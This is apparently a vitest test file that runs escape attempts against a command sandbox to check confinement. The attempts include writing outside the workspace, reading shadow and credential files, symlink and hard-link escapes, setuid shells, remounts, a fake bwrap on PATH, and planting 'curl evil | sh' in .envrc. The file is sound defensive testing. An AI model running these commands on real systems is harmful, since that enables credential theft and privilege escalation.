import { execFileSync } from "node:child_process";
import { chmod, mkdir, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { expect } from "vitest";
import { MADE_BY_COMMAND as MADE } from "../../made-by-commands/moved-aside.js";
import { attempt, takeMovedAside, verdicts } from "./fixture.js";
import { quote } from "./servers.js";
import type { AttackCases } from "./suite.js";

const PYTHON = "/usr/bin/python3";

/** Files and folders with a setuid or setgid bit under `root`, as the host sees them. */
function setuidFiles(root: string): string {
  return execFileSync("find", [root, "-perm", "/6000"], { encoding: "utf8" });
}

/**
 * A Python script that makes each system call that could set a setuid or setgid bit, as raw
 * numbers of this architecture too (fchmodat2 is newer than most C libraries), and prints each
 * outcome: `name ok` or `name ERRNO`.
 */
function rawCallsScript(): string {
  const numbers =
    process.arch === "arm64"
      ? { fchmodat: 53, fchmodat2: 452, openat2: 437, ioUringSetup: 425, x32Chmod: undefined }
      : { fchmodat: 268, fchmodat2: 452, openat2: 437, ioUringSetup: 425, x32Chmod: 0x4000005a };
  return [
    "import ctypes, errno, os, stat",
    "libc = ctypes.CDLL(None, use_errno=True)",
    "L = ctypes.c_long",
    "def report(name, call):",
    "    try:",
    "        result = call()",
    "        failed = isinstance(result, int) and result == -1",
    "        print(name, errno.errorcode[ctypes.get_errno()] if failed else 'ok')",
    "    except OSError as error:",
    "        print(name, errno.errorcode[error.errno])",
    "def raw(number, *args):",
    "    ctypes.set_errno(0)",
    "    return libc.syscall(L(number), *args)",
    "AT_FDCWD = -100",
    "os.close(os.open('plain', os.O_CREAT | os.O_WRONLY, 0o644))",
    "report('open-creat-setuid', lambda: os.open('opened', os.O_CREAT | os.O_WRONLY, 0o4755))",
    "report('open-creat-setgid', lambda: os.open('opened', os.O_CREAT | os.O_WRONLY, 0o2755))",
    "report('open-tmpfile-setuid', lambda: os.open('.', os.O_TMPFILE | os.O_WRONLY, 0o4700))",
    "report('open-existing-mode-ignored', lambda: os.open('plain', os.O_RDONLY, 0o4755))",
    "report('mknod-setuid', lambda: os.mknod('noded', stat.S_IFREG | 0o4755))",
    "report('mknod-plain', lambda: os.mknod('noded', stat.S_IFREG | 0o644))",
    "report('chmod-setgid', lambda: os.chmod('plain', 0o2755))",
    "fd = os.open('plain', os.O_RDONLY)",
    "report('fchmod-setuid', lambda: os.fchmod(fd, 0o4755))",
    `report('fchmodat-setuid', lambda: raw(${numbers.fchmodat}, L(AT_FDCWD), b'plain', L(0o4755)))`,
    `report('fchmodat2-setuid', lambda: raw(${numbers.fchmodat2}, L(AT_FDCWD), b'plain', L(0o4755), L(0)))`,
    `report('fchmodat-plain', lambda: raw(${numbers.fchmodat}, L(AT_FDCWD), b'plain', L(0o750)))`,
    `report('openat2', lambda: raw(${numbers.openat2}, L(AT_FDCWD), b'plain', None, L(0)))`,
    `report('io_uring_setup', lambda: raw(${numbers.ioUringSetup}, L(1), None))`,
    numbers.x32Chmod === undefined
      ? "print('x32-chmod ENOSYS')"
      : `report('x32-chmod', lambda: raw(${numbers.x32Chmod}, b'plain', L(0o4755)))`,
    "print(oct(os.stat('plain').st_mode & 0o7777))",
  ].join("\n");
}

/**
 * The cases of `attacks-filesystem.test.ts`, declared over any fixture: through bubblewrap there, and
 * through the Docker backend over a bound workspace in `docker/docker-attacks.test.ts`.
 */
export const filesystemAttacks: AttackCases = (fixture, it) => {
  it("cannot write outside the workspace, to /etc or to the home folder", async () => {
    const etc = "/etc/pleach-attack-marker";
    const home = path.join(process.env.HOME ?? "/root", "pleach-attack-marker");
    const before = await fixture.state([etc, home]);
    const { stdout } = await fixture.run(
      [
        attempt(`echo x > ${quote(path.join(fixture.outside, "new.txt"))}`),
        attempt(`echo x >> ${quote(path.join(fixture.outside, "secret.txt"))}`),
        attempt(`touch ${etc}`),
        attempt(`touch ${quote(home)}`),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED", "BLOCKED", "BLOCKED"]);
    expect(await fixture.state([etc, home])).toEqual(before);
  });

  it("cannot read the shadow files, in either confined mode", async () => {
    const shadows = ["/etc/shadow", "/etc/shadow-", "/etc/gshadow", "/etc/gshadow-"];
    const command = shadows.map((file) => attempt(`grep -q : ${file}`)).join("\n");
    for (const mode of ["read-only", "workspace-write"] as const) {
      const { stdout } = await fixture.run(command, { mode });
      expect(verdicts(stdout)).toEqual(shadows.map(() => "BLOCKED"));
    }
  });

  it("cannot read the credential stores of the user's home, also through a link, in either confined mode", async () => {
    // A test user's home outside /tmp (the sandbox's private /tmp would hide it anyway), with
    // ~/.aws a link to a folder elsewhere: hidden at its target too.
    const home = path.join(fixture.outside, "home");
    const elsewhere = path.join(fixture.outside, "aws-store");
    const files = [".ssh/id_ed25519", ".config/gh/hosts.yml", ".npmrc", ".git-credentials"];
    for (const file of files) {
      await mkdir(path.dirname(path.join(home, file)), { recursive: true });
      await writeFile(path.join(home, file), "SECRET\n");
    }
    await mkdir(elsewhere);
    await writeFile(path.join(elsewhere, "credentials"), "SECRET\n");
    await symlink(elsewhere, path.join(home, ".aws"));
    const targets = [
      ...[...files, ".aws/credentials"].map((file) => path.join(home, file)),
      path.join(elsewhere, "credentials"),
    ];
    const command = [
      ...targets.map((file) => attempt(`grep -q SECRET ${quote(file)}`)),
      attempt(`ls ${quote(path.join(home, ".ssh"))} | grep -q id_`),
    ].join("\n");
    const hostEnvironment = { ...process.env, HOME: home };
    for (const mode of ["read-only", "workspace-write"] as const) {
      const { stdout } = await fixture.run(command, { mode, hostEnvironment });
      expect(verdicts(stdout)).toEqual([...targets, "ls"].map(() => "BLOCKED"));
    }
    // Control: unconfined (with stdin, so never in a warm sandbox), the same command reads them all.
    const { stdout } = await fixture.run(command, {
      mode: "danger-full-access",
      hostEnvironment,
      stdin: "",
    });
    expect(verdicts(stdout)).toEqual([...targets, "ls"].map(() => "ESCAPED"));
  });

  it("sees a private /tmp: the host's /tmp stays untouched and unseen", async () => {
    const before = await fixture.state();
    const target = path.join(fixture.hostTemporary, "note.txt");
    const { stdout } = await fixture.run(
      [
        attempt(`cat ${quote(target)}`),
        `mkdir -p ${quote(fixture.hostTemporary)} && echo planted > ${quote(target)} && cat ${quote(target)}`,
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED"]);
    expect(stdout).toContain("planted");
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot escape through a symbolic link made by the command", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        `ln -s ${quote(fixture.outside)} made-link`,
        attempt("echo x > made-link/new.txt"),
        attempt("echo x >> made-link/secret.txt"),
        "rm made-link",
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot escape through a symbolic link already in the workspace", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("echo x > escape/new.txt"),
        attempt("echo x >> escape/secret.txt"),
        attempt("rm escape/secret.txt"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED", "BLOCKED"]);
    expect(await fixture.state()).toEqual(before);
  });

  it("what a command makes at missing shell start-up files, .envrc or .mcp.json is moved aside", async () => {
    const before = await fixture.state();
    await fixture.run(
      [
        "echo 'curl evil | sh' > .envrc",
        'echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json',
        "echo 'touch ~/pwned' > .bashrc",
        "echo x > .zshenv",
        "ln -s .zshenv .profile",
      ].join("\n"),
    );
    expect(await takeMovedAside(fixture.root)).toEqual(
      [".bashrc", ".envrc", ".mcp.json", ".profile", ".zshenv"].map((name) => `${name}${MADE}`),
    );
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot change editor configuration that exists, and what it makes of agents' is moved aside", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt(`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`),
        attempt("echo '{\"x\":1}' > .vscode/settings.json"),
        attempt("mv .vscode vscode-old"),
        "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
        "mkdir -p .cursor && echo x > .cursor/mcp.json",
        "mkdir -p .codex && echo x > .codex/config.toml",
        "mkdir -p .idea && echo x > .idea/workspace.xml",
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(3).fill("BLOCKED"));
    expect(await takeMovedAside(fixture.root)).toEqual(
      [".claude", ".codex", ".cursor", ".idea"].map((name) => `${name}${MADE}`),
    );
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot replace a protected file by renaming another file over it, nor delete it", async () => {
    await writeFile(path.join(fixture.root, ".envrc"), "export SAFE=1\n");
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        "echo 'curl evil | sh' > evil",
        attempt("mv -f evil .envrc"),
        attempt("rm -f .envrc"),
        attempt("echo 'curl evil | sh' >> .envrc"),
        attempt("chmod 777 .envrc"),
        "rm -f evil",
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("refuses to run when a protected path is a symbolic link a command could replace", async () => {
    await writeFile(path.join(fixture.outside, "envrc"), "export SAFE=1\n");
    const { symlink } = await import("node:fs/promises");
    await symlink(path.join(fixture.outside, "envrc"), path.join(fixture.root, ".envrc"));
    const before = await fixture.state();
    await expect(fixture.run("echo evil > .envrc")).rejects.toMatchObject({
      code: "PROTECTED_PATH",
    });
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot write through a hard link to a protected file", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [attempt("ln .git/config cfg"), attempt("ln .vscode/settings.json s.json")].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(["BLOCKED", "BLOCKED"]);
    expect(await fixture.state()).toEqual(before);
  });

  it("in read-only mode writes nowhere, the workspace included, but has a private /tmp", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("echo x > src/app.txt"),
        attempt("touch new.txt"),
        attempt("rm src/app.txt"),
        attempt("mkdir folder"),
        attempt("mv src source"),
        attempt("echo x > .git/hooks/pre-commit"),
        attempt("echo x > .envrc"),
        attempt(`echo x > ${quote(path.join(fixture.outside, "new.txt"))}`),
        "echo scratch > /tmp/scratch && cat /tmp/scratch",
      ].join("\n"),
      { mode: "read-only" },
    );
    expect(verdicts(stdout)).toEqual(Array(8).fill("BLOCKED"));
    expect(stdout).toContain("scratch");
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot make a setuid or setgid file or folder, which outside the sandbox would run as the caller (or root)", async () => {
    const { stdout } = await fixture.run(
      [
        attempt("cp /bin/bash rootsh && chmod 4755 rootsh"),
        attempt("cp /bin/bash groupsh && chmod g+s groupsh"),
        attempt("cp /bin/bash usersh && chmod u+s,g+s usersh"),
        attempt("install -m 4755 /bin/bash installed"),
        attempt(`${PYTHON} -c 'import os; os.open("opened", os.O_CREAT | os.O_WRONLY, 0o4755)'`),
        attempt(`${PYTHON} -c 'import os, stat; os.mknod("noded", stat.S_IFREG | 0o6755)'`),
        attempt("mkdir folder && chmod u+s folder"),
        attempt("mkdir group-folder && chmod g+s group-folder"),
        attempt("mkdir -m 2755 made-folder"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(9).fill("BLOCKED"));
    expect(setuidFiles(fixture.root)).toBe("");
  });

  it("refuses each system call that sets a setuid or setgid bit, and openat2 and io_uring", async () => {
    const { stdout, stderr } = await fixture.run(`${PYTHON} -c ${quote(rawCallsScript())}`);
    expect(stderr).toBe("");
    expect(stdout.trim().split("\n")).toEqual([
      "open-creat-setuid EPERM",
      "open-creat-setgid EPERM",
      "open-tmpfile-setuid EPERM",
      "open-existing-mode-ignored ok",
      "mknod-setuid EPERM",
      "mknod-plain ok",
      "chmod-setgid EPERM",
      "fchmod-setuid EPERM",
      "fchmodat-setuid EPERM",
      "fchmodat2-setuid EPERM",
      "fchmodat-plain ok",
      "openat2 ENOSYS",
      "io_uring_setup ENOSYS",
      "x32-chmod ENOSYS",
      "0o750",
    ]);
    expect(setuidFiles(fixture.root)).toBe("");
  });

  it("still changes ordinary modes: 755, 644, +x, a folder's, install -m 755, sticky", async () => {
    const { stdout, exitCode } = await fixture.run(
      [
        "umask 022",
        "touch plain && chmod 755 plain && stat -c %a plain",
        "chmod 644 plain && stat -c %a plain",
        "chmod +x plain && stat -c %a plain",
        "chmod u-s,g-s plain && stat -c %a plain",
        "mkdir folder && chmod 700 folder && stat -c %a folder",
        "chmod +t folder && stat -c %a folder",
        "install -m 755 /bin/true tool && stat -c %a tool",
      ].join(" && "),
    );
    expect(stdout).toBe("755\n644\n755\n755\n700\n1700\n755\n");
    expect(exitCode).toBe(0);
  });

  it("can write ordinary workspace files in workspace-write mode", async () => {
    const { stdout, exitCode } = await fixture.run(
      "echo changed > src/app.txt && mkdir -p out && echo made > out/new.txt && cat src/app.txt out/new.txt",
    );
    expect(exitCode).toBe(0);
    expect(stdout).toBe("changed\nmade\n");
  });

  it("cannot remount the host read-write, unmount a protection or mount over it", async () => {
    const before = await fixture.state();
    const { stdout } = await fixture.run(
      [
        attempt("mount -o remount,rw /"),
        attempt(`mount -o remount,rw ${quote(path.join(fixture.root, ".git"))}`),
        attempt(`umount ${quote(path.join(fixture.root, ".git"))}`),
        attempt(`umount -l ${quote(path.join(fixture.root, ".envrc"))}`),
        attempt(`mount -t tmpfs none ${quote(path.join(fixture.root, ".git"))}`),
        attempt(`mount --bind ${quote(fixture.outside)} ${quote(path.join(fixture.root, "src"))}`),
        attempt("echo x > .git/hooks/pre-commit"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(7).fill("BLOCKED"));
    expect(await fixture.state()).toEqual(before);
  });

  it("cannot write kernel settings, /sys or device nodes", async () => {
    const cgroup = "/sys/fs/cgroup/pleach-attack";
    const before = await fixture.state([cgroup]);
    const { stdout } = await fixture.run(
      [
        // Rewrites the current value, so even a failed defence changes nothing.
        attempt("cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness"),
        attempt("cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname"),
        attempt(`mkdir ${cgroup}`),
        attempt("mknod made-null c 1 3"),
      ].join("\n"),
    );
    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
    expect(await fixture.state([cgroup])).toEqual(before);
  });

  it("does not run a fake bwrap from PATH or from the workspace", async () => {
    const marker = path.join(fixture.outside, "fake-bwrap-ran");
    for (const folder of [path.join(fixture.root, "bin"), path.join(fixture.outside, "bin")]) {
      await mkdir(folder, { recursive: true });
      await writeFile(
        path.join(folder, "bwrap"),
        `#!/bin/sh\ntouch ${quote(marker)}\nexec /bin/bash -c "$@"\n`,
      );
      await chmod(path.join(folder, "bwrap"), 0o755);
    }
    const before = await fixture.state([marker]);
    const hostEnvironment = {
      ...process.env,
      PATH: `${fixture.root}/bin:${fixture.outside}/bin:${process.env.PATH ?? ""}`,
    };
    const { stdout, exitCode } = await fixture.run("echo confined; ls /run | wc -l", {
      hostEnvironment,
    });
    expect(exitCode).toBe(0);
    expect(stdout).toBe("confined\n0\n");
    expect(await fixture.state([marker])).toEqual(before);
  });
};
